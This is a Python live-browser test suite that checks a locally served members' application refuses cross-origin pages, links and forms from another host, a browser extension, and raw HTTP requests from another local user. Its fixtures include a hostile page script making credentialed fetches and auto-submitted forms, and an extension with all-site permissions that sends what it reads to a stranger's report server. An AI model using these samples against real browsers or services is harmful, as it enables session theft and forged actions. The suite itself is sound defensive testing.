"""Strangers at the members' application: other ports, pages on the web, an extension, another user of the computer.

Each knows more than a stranger can know, the name and the port, and gets nothing all the same. The application is open
and unlocked in the same browser meanwhile.
"""

from __future__ import annotations

import http.client
import io
import json
import shutil
import tempfile
import time
import zipfile
from pathlib import Path

import pytest
from browsers.chromium import Chromium
from browsers.desk_served import Application, DeskServed, Stranger, desk_browser, unlocked_in
from browsers.firefox import Firefox
from networks.conftest_tor import SHORT_FOLDER_PREFIX

pytestmark = pytest.mark.live

LEAD = 0
SECONDS = 20.0
BROWSERS = (Chromium, Firefox)
WITH_EXTENSIONS = {"options": ("--enable-unsafe-extension-debugging",), "without": ("--disable-extensions",)}
MARKER = "Hantverkare bjod pa resa"

# What a page can make a browser ask for: by script, as parts of itself, as a form, as a place to go to.
ATTACKS = """<!doctype html><meta charset=utf-8><title>stranger</title><body><script>
const at = %(origin)s, done = [];
addEventListener("load", async () => {
  for (const path of ["/", "/unlock", "/desk.css", "/lock"])
    for (const mode of ["no-cors", "cors"])
      for (const method of ["GET", "POST"])
        try {
          const answer = await fetch(at + path, {mode, method, credentials: "include"});
          done.push([path, mode, method, answer.type, answer.type === "opaque" ? "" : await answer.text()]);
        } catch (error) { done.push([path, mode, method, "refused", ""]); }
  const wait = (one) => new Promise((over) => { one.onload = one.onerror = over; document.body.append(one); setTimeout(over, 3000); });
  await wait(Object.assign(document.createElement("img"), {src: at + "/"}));
  await wait(Object.assign(document.createElement("iframe"), {src: at + "/"}));
  await wait(Object.assign(document.createElement("script"), {src: at + "/"}));
  await wait(Object.assign(document.createElement("link"), {rel: "stylesheet", href: at + "/desk.css"}));
  const inside = Object.assign(document.createElement("iframe"), {name: "inside"});
  document.body.append(inside);
  for (const path of ["/lock", "/unlock"]) {
    const form = Object.assign(document.createElement("form"), {method: "post", action: at + path, target: "inside"});
    document.body.append(form);
    form.submit();
    await new Promise((over) => setTimeout(over, 500));
  }
  document.title = "over " + JSON.stringify(done);
});
</script>"""
GOES = """<!doctype html><meta charset=utf-8><title>goes</title><a href="%(there)s">go</a>
<form method=post action="%(there)slock"><button>post</button></form>"""
EXTENSION = {
    "manifest.json": json.dumps(
        {
            "manifest_version": 3,
            "name": "stranger",
            "version": "1",
            "host_permissions": ["<all_urls>"],
            "permissions": ["cookies"],
            "background": {"service_worker": "work.js", "scripts": ["work.js"]},
            "browser_specific_settings": {"gecko": {"id": "stranger@example.org"}},
        }
    ),
    # What it read goes to the stranger's own server.
    "work.js": """(async () => {
  const at = %(origin)s, got = [];
  for (const path of ["/", "/unlock", "/desk.css"])
    for (const credentials of ["include", "omit"])
      try { got.push((await (await fetch(at + path, {credentials})).text()).length); } catch (error) { got.push("refused"); }
  await fetch(%(report)s + "?" + got.join(","), {mode: "no-cors"});
})();""",
}


@pytest.fixture(scope="module")
def served():
    folder = Path(tempfile.mkdtemp(prefix=SHORT_FOLDER_PREFIX))
    with DeskServed(folder) as served:
        served.call(served.desks.file, MARKER)
        served.call(served.desks.release)
        yield served
    shutil.rmtree(folder, ignore_errors=True)


def until(condition) -> None:
    deadline = time.monotonic() + SECONDS
    while not condition():
        assert time.monotonic() < deadline, "it did not come"
        time.sleep(0.05)


def go(person: Chromium | Firefox, address: str) -> None:
    """Go to a page that is none of ours, and need not be whole."""
    if isinstance(person, Firefox):
        person.do("WebDriver:Navigate", url=address)
    else:
        person.do("Page.navigate", url=address)
        time.sleep(1)


def nothing_came(application: Application, before: int) -> int:
    """That every answer since was empty; returns how many there were."""
    since = application.answered[before:]
    assert {(one.status, one.length) for one in since} <= {(404, 0)}, since
    return len(since)


@pytest.mark.parametrize("kind", BROWSERS)
def test_a_page_of_another_port_gets_neither_a_page_nor_the_cookie_and_changes_nothing(served, kind):
    application = served.application(LEAD, home=served.desks.home(LEAD, f"port-{kind.__name__}"))
    page = ATTACKS % {"origin": json.dumps(application.origin)}
    with Stranger({"/": page}) as stranger:
        person = desk_browser(kind)
        try:
            unlocked_in(person, application)
            ours = MARKER in person.text()
            before = len(application.answered)
            go(person, f"http://127.0.0.1:{stranger.port}/")
            until(lambda: "over [" in person.source())
            read = person.source()
        finally:
            person.quit()

    assert ours
    assert nothing_came(application, before) >= 8
    assert MARKER not in read
    assert stranger.cookies == []
    assert application.is_unlocked


@pytest.mark.parametrize("kind", BROWSERS)
def test_another_name_on_this_computer_and_a_link_or_a_form_from_there_get_nothing(served, kind):
    application = served.application(LEAD, home=served.desks.home(LEAD, f"name-{kind.__name__}"))
    with Stranger({"/": GOES % {"there": f"{application.origin}/"}}) as stranger:
        person = desk_browser(kind)
        try:
            unlocked_in(person, application)
            before = len(application.answered)
            for number, selector in enumerate(("a", "button"), start=1):
                go(person, f"http://stranger.localhost:{stranger.port}/")
                person._click(selector)  # a press after which none of our pages comes
                until(lambda count=number: nothing_came(application, before) >= count)
            # The member herself goes on.
            person.open(f"{application.origin}/")
            ours = MARKER in person.text()
        finally:
            person.quit()

    assert ours
    assert stranger.cookies == []
    assert application.is_unlocked


@pytest.mark.parametrize("kind", BROWSERS)
def test_an_extensions_fetch_gets_nothing_though_it_may_reach_every_site(served, kind, tmp_path):
    application = served.application(LEAD, home=served.desks.home(LEAD, f"more-{kind.__name__}"))
    with Stranger({}) as stranger:
        fill = {
            "origin": json.dumps(application.origin),
            "report": json.dumps(f"http://127.0.0.1:{stranger.port}/report"),
        }
        files = {name: text % fill if name == "work.js" else text for name, text in EXTENSION.items()}
        person = desk_browser(kind, **(WITH_EXTENSIONS if kind is Chromium else {}))
        try:
            unlocked_in(person, application)
            before = len(application.answered)
            _install(person, files, tmp_path)
            until(lambda: stranger.asked)
        finally:
            person.quit()

    read = stranger.asked[0].partition("?")[2].split(",")
    assert len(read) == 6
    assert set(read) <= {"0", "refused"}, read
    assert nothing_came(application, before) >= 3
    assert application.is_unlocked


def _install(person: Chromium | Firefox, files: dict[str, str], folder: Path) -> None:
    if isinstance(person, Firefox):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as archive:
            for name, text in files.items():
                archive.writestr(name, text)
        add_on = folder / "stranger.xpi"
        add_on.write_bytes(packed.getvalue())
        person.do("Addon:Install", path=str(add_on), temporary=True)
        person._in_firefox(
            "const { ExtensionPermissions } = ChromeUtils.importESModule('resource://gre/modules/ExtensionPermissions.sys.mjs');"
            "return ExtensionPermissions.add('stranger@example.org', { permissions: [], origins: ['<all_urls>'] },"
            " WebExtensionPolicy.getByID('stranger@example.org').extension).then(() =>"
            " AddonManager.getAddonByID('stranger@example.org')).then((one) => one.reload());"
        )
        return
    for name, text in files.items():
        (folder / name).write_text(text)
    person.do("Extensions.loadUnpacked", path=str(folder), browser=True)


def test_another_user_of_the_computer_gets_nothing_with_or_without_the_name(served):
    application = served.application(LEAD, home=served.desks.home(LEAD, "user"))
    before = len(application.answered)
    port = application.reader.port

    for address in ("127.0.0.1", "::1"):
        for host in (address, f"localhost:{port}", application.origin.removeprefix("http://")):
            for path in ("/", "/unlock", "/desk.css", "/open/guessed", "/lock"):
                for method in ("GET", "POST", "TRACE", "HEAD"):
                    connection = http.client.HTTPConnection(address, port, timeout=SECONDS)
                    connection.putrequest(method, path, skip_host=True)
                    connection.putheader("Host", host)
                    connection.endheaders()
                    answer = connection.getresponse()
                    assert (answer.status, answer.read()) == (404, b"")
                    connection.close()

    assert nothing_came(application, before) == 2 * 3 * 5 * 4
